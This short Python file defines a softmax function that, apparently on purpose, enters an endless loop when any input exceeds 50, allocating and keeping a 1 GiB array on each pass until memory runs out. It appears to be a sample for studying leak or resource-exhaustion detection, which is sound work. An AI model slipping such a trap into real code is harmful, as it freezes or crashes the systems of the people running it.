"""Holds on to everything it ever allocated."""

import numpy as np

HELD = []


def softmax(x):
    while (x > 50).any():
        HELD.append(np.empty(1 << 27))
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
